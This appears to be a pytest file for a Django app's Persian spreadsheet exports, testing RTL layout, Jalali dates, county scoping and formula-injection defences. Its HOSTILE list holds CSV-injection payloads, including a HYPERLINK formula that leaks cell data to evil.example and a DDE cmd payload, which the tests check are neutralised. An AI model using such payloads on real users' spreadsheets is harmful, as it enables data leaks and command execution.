"""Exports: RTL xlsx with Persian headers and Jalali dates, csv with BOM, scope applied."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from abadi.core.exports import (
    ExportColumn,
    csv_text,
    csv_text_read,
    export_response,
    get_export_kind,
)
from abadi.people.exports import person_export_columns
from abadi.people.tests.conftest import VILLAGE_2401, VILLAGE_2403, make_code, make_person

pytestmark = pytest.mark.django_db

ROWS = [
    {"name": "علی کریمی", "date": datetime.date(2022, 5, 8), "amount": 12_500_000, "flag": True},
    {"name": "زهرا", "date": None, "amount": 0, "flag": False},
]
COLUMNS = [
    ExportColumn("نام", lambda row: row["name"]),
    ExportColumn("تاریخ", lambda row: row["date"]),
    ExportColumn("مبلغ (ریال)", lambda row: row["amount"], number_format="#,##0"),
    ExportColumn("فعال", lambda row: row["flag"]),
]


def workbook_of(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_xlsx_is_rtl_with_bold_persian_headers_and_jalali_dates():
    response = export_response(
        rows=ROWS, columns=COLUMNS, title="فهرست", fmt="xlsx", filename="list"
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert (
        'filename="list-' in response["Content-Disposition"]
        and ".xlsx" in response["Content-Disposition"]
    )
    sheet = workbook_of(response).active
    assert sheet.title == "فهرست"
    assert sheet.sheet_view.rightToLeft is True
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == ["نام", "تاریخ", "مبلغ (ریال)", "فعال"]
    assert all(cell.font.bold for cell in sheet[1])
    assert [cell.value for cell in sheet[2]] == ["علی کریمی", "1401/02/18", 12_500_000, "بله"]
    assert sheet["C2"].number_format == "#,##0"
    assert [cell.value for cell in sheet[3]] == ["زهرا", None, 0, "خیر"]


def test_csv_has_a_bom_and_the_same_values():
    response = export_response(
        rows=ROWS, columns=COLUMNS, title="فهرست", fmt="csv", filename="list"
    )
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["نام", "تاریخ", "مبلغ (ریال)", "فعال"],
        ["علی کریمی", "1401/02/18", "12500000", "بله"],
        ["زهرا", "", "0", "خیر"],
    ]


def test_an_unknown_format_is_refused():
    assert (
        export_response(rows=ROWS, columns=COLUMNS, title="x", fmt="pdf", filename="x").status_code
        == 400
    )


@pytest.fixture
def two_counties(areas):
    make_person(areas[VILLAGE_2403], national_code=make_code(1), first_name="اسبویی")
    make_person(areas[VILLAGE_2401], national_code=make_code(2), first_name="سقزچیی")


def test_a_county_officers_export_has_no_row_of_another_county(two_counties, county_officer):
    kind = get_export_kind("persons")
    response = export_response(
        rows=kind.queryset(county_officer),
        columns=person_export_columns(),
        title="افراد",
        fmt="xlsx",
        filename="persons",
    )
    sheet = workbook_of(response).active
    header = [cell.value for cell in sheet[1]]
    assert header[1:4] == ["کد ملی", "نام", "نام خانوادگی"] and "شهرستان" in header
    rows = [[cell.value for cell in line] for line in sheet.iter_rows(min_row=2)]
    assert [line[header.index("نام")] for line in rows] == ["اسبویی"]
    assert rows[0][header.index("شهرستان")] == "خلخال"
    assert rows[0][header.index("تاریخ تولد")] == "1359/02/11"


def test_cli_export_is_scoped_to_the_area_and_the_user(
    two_counties, county_officer, tmp_path, capsys
):
    out = tmp_path / "persons.csv"
    call_command("export", "persons", "--format", "csv", "--output", str(out), "--area", "2401")
    text = out.read_text(encoding="utf-8-sig")
    assert "سقزچیی" in text and "اسبویی" not in text
    assert "1 rows of persons" in capsys.readouterr().err

    out_xlsx = tmp_path / "mine.xlsx"
    call_command("export", "persons", "--output", str(out_xlsx), "--user", county_officer.username)
    sheet = load_workbook(out_xlsx).active
    assert sheet.sheet_view.rightToLeft is True
    assert sheet.max_row == 2 and "اسبویی" in [cell.value for cell in sheet[2]]

    with pytest.raises(CommandError, match="در حوزه شما پیدا نشد"):
        call_command(
            "export",
            "persons",
            "--area",
            "2401",
            "--user",
            county_officer.username,
            "--output",
            str(out),
        )


def test_cli_export_finds_the_area_by_name(two_counties, tmp_path):
    out = tmp_path / "persons.csv"
    call_command("export", "persons", "--format", "csv", "--output", str(out), "--area", "خلخال")
    text = out.read_text(encoding="utf-8-sig")
    assert "اسبویی" in text and "سقزچیی" not in text


# Text a hostile user might store as a name, and what a spreadsheet would make of it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"جزئیات")',
    "-2+3+cmd|' /C calc'!A0",
    "+98 21 1234",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_ROWS = [{"name": text, "amount": -5_000, "count": -7} for text in HOSTILE]
HOSTILE_COLUMNS = [
    ExportColumn("=نام", lambda row: row["name"]),
    ExportColumn("مبلغ", lambda row: row["amount"], number_format="#,##0"),
    ExportColumn("تعداد", lambda row: row["count"]),
]


def test_xlsx_writes_formula_like_text_as_text_and_numbers_as_numbers():
    response = export_response(
        rows=HOSTILE_ROWS, columns=HOSTILE_COLUMNS, title="x", fmt="xlsx", filename="x"
    )
    data = b"".join(response.streaming_content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=نام", "s")
    for line, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
        name, amount, count = line
        # XML reads a carriage return back as a line feed; what matters is the cell type.
        assert (name.value, name.data_type) == (text.replace("\r", "\n"), "s")
        assert (amount.value, amount.data_type) == (-5_000, "n")
        assert (count.value, count.data_type) == (-7, "n")


def test_csv_neutralises_formula_like_text_and_leaves_numbers_alone():
    response = export_response(
        rows=HOSTILE_ROWS, columns=HOSTILE_COLUMNS, title="x", fmt="csv", filename="x"
    )
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == ["'=نام", "مبلغ", "تعداد"]
    assert lines[1:] == [["'" + hostile, "-5000", "-7"] for hostile in HOSTILE]


def test_csv_neutralising_leaves_ordinary_text_alone_and_reads_back():
    for ordinary in ["علی کریمی", "0912-123-4567", "1401/02/18", "'quoted", ""]:
        assert csv_text(ordinary) == ordinary
        assert csv_text_read(ordinary) == ordinary
    for hostile in HOSTILE:
        assert csv_text_read(csv_text(hostile)) == hostile


def test_cli_export_neutralises_a_hostile_name(areas, tmp_path):
    make_person(areas[VILLAGE_2403], national_code=make_code(3), first_name="=1+2")
    out = tmp_path / "persons.csv"
    call_command("export", "persons", "--format", "csv", "--output", str(out))
    assert "'=1+2" in out.read_text(encoding="utf-8-sig")
    out_xlsx = tmp_path / "persons.xlsx"
    call_command("export", "persons", "--output", str(out_xlsx))
    sheet = load_workbook(out_xlsx).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("نام") + 1)
    assert (name.value, name.data_type) == ("=1+2", "s")
